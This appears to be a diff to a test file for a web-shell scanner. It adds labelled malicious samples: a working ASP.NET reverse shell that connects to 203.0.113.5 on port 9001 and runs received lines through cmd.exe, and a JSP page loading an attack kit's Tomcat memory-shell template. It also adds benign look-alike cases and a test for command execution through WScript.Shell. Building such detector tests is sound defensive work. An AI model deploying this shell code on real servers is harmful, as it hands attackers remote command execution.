@@ -102,6 +102,19 @@ void Run(object s, EventArgs e) {
 }
 </script>
 <asp:TextBox ID="txtCmd" runat="server" /><asp:Button runat="server" OnClick="Run" Text="Go" />`],
+  // sets R and S (collected after P's and Q's fixes)
+  ['ASP.NET: a reverse shell whose Process is started by its own Start(), FileName set on its StartInfo', 'mamori_aspx_socket_shell', '/www/r2.aspx', `<%@ Page Language="C#" %>
+<script runat="server">
+protected void Page_Load(object s, EventArgs e) {
+  using (var c = new System.Net.Sockets.TcpClient()) { c.Connect("203.0.113.5", 9001);
+    var rd = new System.IO.StreamReader(c.GetStream()); var wr = new System.IO.StreamWriter(c.GetStream()) { AutoFlush = true };
+    for (;;) { string line = rd.ReadLine(); var p = new System.Diagnostics.Process();
+      p.StartInfo.FileName = "cmd.exe"; p.StartInfo.Arguments = "/c " + line; p.StartInfo.RedirectStandardOutput = true; p.StartInfo.UseShellExecute = false;
+      p.Start(); wr.WriteLine(p.StandardOutput.ReadToEnd()); } }
+}
+</script>`],
+  ['JSP: a page that makes an attack kit\'s memory-shell template', 'mamori_jsp_attack_kit_class', '/www/m.jsp', `<%@ page import="com.feihong.ldap.template.*" %>
+<% Object o = new TomcatMemshellTemplate2(); out.print("ok"); %>`],
 ];
 
 // [what, path, the file]: code of the same shapes that is not a shell
@@ -145,6 +158,10 @@ BufferedReader r = new BufferedReader(new InputStreamReader(request.getInputStre
 String tpl = new String(java.nio.file.Files.readAllBytes(new File(application.getRealPath("/WEB-INF/home.tpl")).toPath()), "UTF-8");
 Writer w = new FileWriter(application.getRealPath("/home.jsp")); w.write(tpl.replace("{SITE}", "Shop")); w.close();
 %>`],
+  ['ASP: a page reading a registry value through WScript.Shell', '/www/ver.asp', `<%
+Set sh = CreateObject("WScript.Shell")
+Response.Write Server.HTMLEncode(sh.RegRead("HKLM\\SOFTWARE\\Shop\\Version"))
+%>`],
 ];
 
 describe('scan: held-out sets P and Q (session 27), their misses, samples of our own', () => {
@@ -169,8 +186,17 @@ echo '<form method=post enctype=multipart/form-data><input type=file name=f><inp
     assert.notEqual(r.verdict, 'clean', JSON.stringify(r.findings));
     assert.ok(r.findings.some((f) => f.technique === 'uploader'), JSON.stringify(r.findings));
   });
+  it('an ASP page running a command of its own through WScript.Shell and printing it is suspicious (set S)', () => {
+    const r = scan(`<%
+Set sh = CreateObject("WScript.Shell")
+Set x = sh.Exec("ipconfig /all")
+Response.Write x.StdOut.ReadAll()
+%>`, '/www/info.asp');
+    assert.equal(r.verdict, 'suspicious', JSON.stringify(r.findings));
+    assert.ok(r.findings.some((f) => f.rule === 'mamori_asp_wscript_output'), JSON.stringify(r.findings));
+  });
   it('ran every case', () => {
-    assert.equal(MALICIOUS.length, 12);
-    assert.equal(BENIGN.length, 10);
+    assert.equal(MALICIOUS.length, 14);
+    assert.equal(BENIGN.length, 11);
   });
 });
